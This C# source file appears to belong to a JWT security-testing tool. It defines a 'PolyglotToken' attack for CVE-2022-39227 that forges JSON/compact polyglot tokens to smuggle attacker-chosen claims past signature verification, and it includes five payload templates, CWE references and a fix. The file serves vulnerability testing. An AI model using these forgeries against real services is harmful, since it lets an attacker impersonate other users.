using CryptoAssert.Http;
using CryptoAssert.Jwt.Jose;

namespace CryptoAssert.Jwt.Attacks;

/// <summary>
/// One text that is a JSON JWS to the verifier and a compact JWT to the reader of the claims. Tom Tervoort, 2022: python-jwt
/// verified the one and believed the other. rfc8725bis 2.13 and 3.14; CVE-2022-39227.
/// </summary>
internal sealed class PolyglotToken : JwtAttack
{
    public override string Id => "CRY1100";

    public override JwtFamily Family => JwtFamily.Malformed;

    public override IReadOnlyList<int> Cwe => [436, 290, 347];

    public override IReadOnlyList<string> References => ["rfc8725bis 2.13", "rfc8725bis 3.14", "CVE-2022-39227", "ASVS 9.1.1"];

    public override string Cause => "verified a token as JSON and read its claims as a compact JWT";

    public override string Why => "anyone with one token of his own becomes anyone";

    public override string Fix => "take the claims from what ValidateTokenAsync returns, and refuse a token with braces or "
        + "quotes";

    // a lifetime that nobody checks would let the expired part in
    internal override IReadOnlyList<string> ExplainedBy => ["CRY2112"];

    internal override IEnumerable<Forgery> Forge(Attacker attacker)
    {
        foreach (var claims in SmuggledClaims.For(attacker))
        {
            var (header, payload, signature) = (claims.Genuine.HeaderSegment, claims.Genuine.PayloadSegment, claims.Genuine.SignatureSegment);
            var members = $""" "protected":"{header}","payload":"{payload}","signature":"{signature}" """.Trim();
            yield return claims.In($$"""{"{{header}}.{{claims.Payload}}.":"",{{members}}}""", "a member named like a compact token");
            yield return claims.In(
                $$"""{"  {{header}}.{{claims.Payload}}.":"",{{members}}}""", "a member named like a compact token, behind two spaces");
            yield return claims.In($$"""{"x":"{{header}}.{{claims.Payload}}.{{signature}}",{{members}}}""", "a compact token as a value");
            yield return claims.In($$"""{{{members}},"x":".{{claims.Payload}}."}""", "the payload between dots at the end");
            yield return claims.In(
                $$"""{"payload":"{{payload}}","signatures":[{{JsonJws.Signature(header, signature)}}],"x":".{{claims.Payload}}."}""",
                "the general form, the payload between dots at the end");
        }
    }

    internal override string? Judge(Forgery forgery, HttpAnswer answer, Reading reading, Attacker attacker) =>
        SmuggledClaims.Judge(forgery, answer, reading, attacker);
}
